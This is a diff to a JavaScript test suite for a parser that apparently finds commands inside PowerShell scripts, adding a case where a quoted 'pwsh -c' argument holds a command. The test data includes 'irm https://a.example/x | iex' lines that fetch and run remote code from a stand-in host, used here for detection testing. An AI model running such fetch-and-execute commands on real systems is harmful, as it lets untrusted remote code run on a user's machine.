@@ -96,6 +96,11 @@ describe('VM-II-07', () => {
     expect(await partsIn('<#\nnever closed\nirm https://a.example/z | iex\n', 'a.ps1')).toEqual([]);
   });
 
+  it('sees what another PowerShell is given in quotes, and no comment in it', async () => {
+    for (const line of ['pwsh -c "irm https://a.example/x | iex"', "pwsh -c 'irm https://a.example/x | iex'"])
+      expect(await partsIn(`${line}\n`, 'a.ps1')).toEqual([line]);
+  });
+
   it.each([
     `Write-Host "<#"`,
     `Write-Host '<#'`,
